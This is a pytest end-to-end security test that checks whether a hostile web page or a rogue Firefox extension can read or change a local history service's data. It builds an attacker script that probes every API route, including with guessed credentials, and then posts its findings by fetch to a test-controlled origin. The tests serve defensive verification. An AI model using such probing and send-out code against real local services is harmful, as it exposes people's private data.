"""The attack page and a second extension in Firefox: nothing is read and nothing changes."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from e2e.harness.chromium import REPOSITORY
from e2e.harness.service import Service
from exchanges import history, items
from skilltrail.application import Application
from skilltrail.config import Settings
from skilltrail.ml.hash_embedder import HashEmbedder
from skilltrail.web.api import ROUTES
from torture.firefox import Stranger, firefox
from torture.nursery import free_port

pytestmark = pytest.mark.skipif(not (shutil.which("firefox-esr") or shutil.which("firefox")), reason="needs Firefox")

ATTACKER = REPOSITORY / "tests" / "extension-attack"
# Answered to anybody: who this service is, and which addresses it has.
OPEN_TO_ALL = ("GET /api/v1/hello", "GET /api/v1/openapi.json")
PRIVATE = ("Question ", "FORGED", "conversation_id", "mark_key")
PATIENCE_SECONDS = 180


@pytest.fixture
def service(tmp_path: Path) -> Iterator[Service]:
    """A served history worth stealing."""
    settings = Settings(home=tmp_path / "home", keyring=False, open_browser=False)
    with Application.open(settings, model=HashEmbedder()) as application:
        application.exchanges.capture(items(history(20)))
    # Without a model: topics that come meanwhile by the worker's own work would look like the attacker's.
    running = Service(home=settings.home, port=free_port(), model=False)
    running.start()
    yield running
    running.stop()


def state_of(service: Service) -> dict[str, Any]:
    """Return everything that an attack could have changed."""
    return {
        "rows": service.rows(),
        "texts": service.texts(),
        "devices": service.get("/api/v1/devices")["devices"],
        "waiting": [one for one in service.get("/api/v1/pairings")["pairings"] if one["label"] != "FORGED"],
    }


def addresses() -> dict[str, list[str]]:
    """Return every address of the service, to read and to write."""
    paths = {method: [] for method in ("GET", "POST", "PUT", "PATCH", "DELETE")}
    for route in ROUTES:
        paths[route.method].append("/api/v1" + route.path.replace("<", "").replace(">", ""))
    return {"reads": paths["GET"], "writes": [*paths["POST"], *paths["PUT"], *paths["PATCH"], *paths["DELETE"]]}


def attacker(folder: Path, service: Service, *, answers_to: str) -> Path:
    """Return a copy of the attacker that begins by itself and posts what it found."""
    shutil.copytree(ATTACKER, folder)
    target = json.dumps({"port": service.port, "extensionId": "none", **addresses()})
    begin = f'attack({target}).then((found) => fetch("{answers_to}/found", {{method: "POST", mode: "no-cors", body: JSON.stringify(found)}}));'
    (folder / "begin.js").write_text(begin, encoding="utf-8")
    page = (folder / "attack.html").read_text(encoding="utf-8")
    (folder / "begin.html").write_text(
        page.replace("</body>", '<script src="begin.js"></script></body>'), encoding="utf-8"
    )
    return folder


def leaks(results: list[dict[str, Any]]) -> list[str]:
    return [
        f"{one['name']}: {one['status']} {str(one['body'])[:80]}"
        for one in results
        if one["name"].removesuffix(" with a guessed credential") not in OPEN_TO_ALL
        and (200 <= (one["status"] or 0) < 300 or any(word in str(one["body"]) for word in PRIVATE))
    ]


def test_a_page_on_another_port_gets_nothing_and_changes_nothing(
    service: Service, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "web").mkdir()
    stranger = Stranger(tmp_path / "web" / "site")
    attacker(tmp_path / "web" / "site", service, answers_to=stranger.origin)
    before = state_of(service)

    with firefox(tmp_path, f"{stranger.origin}/begin.html"):
        results = stranger.told.get(timeout=PATIENCE_SECONDS)

    with capsys.disabled():
        print(f"\nFirefox, a page on another port: {len(results)} tries, {len(leaks(results))} leaks")
    assert len(results) > 200
    assert leaks(results) == []
    after = state_of(service)
    changed = {
        name for old, new in zip(before["rows"], after["rows"], strict=True) for name in old if old[name] != new[name]
    }
    assert changed == set()
    assert after == before
    stranger.close()


def test_another_extension_gets_nothing_and_changes_nothing(
    service: Service, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    stranger = Stranger(tmp_path)
    addon = attacker(tmp_path / "addon", service, answers_to=stranger.origin)
    manifest = {
        **json.loads((addon / "manifest-with-permission.json").read_text(encoding="utf-8")),
        "background": {"scripts": ["attack.js", "begin.js"]},
        "browser_specific_settings": {"gecko": {"id": "stranger@example.invalid"}},
    }
    (addon / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    before = state_of(service)

    with firefox(tmp_path, "about:blank", addons=(addon,)):
        results = stranger.told.get(timeout=PATIENCE_SECONDS)

    # An extension that the person allowed on loopback may ask to be paired; only the person's click would grant it.
    asked = [one for one in results if one["name"].startswith("POST /api/v1/pairings") and one["status"] == 201]
    found = leaks([one for one in results if one not in asked])
    with capsys.disabled():
        print(
            f"\nFirefox, another extension: {len(results)} tries, {len(found)} leaks, {len(asked)} asked to be paired"
        )
    assert len(results) > 200
    assert found == []
    after = state_of(service)
    assert {**after, "waiting": None} == {**before, "waiting": None}
    stranger.close()
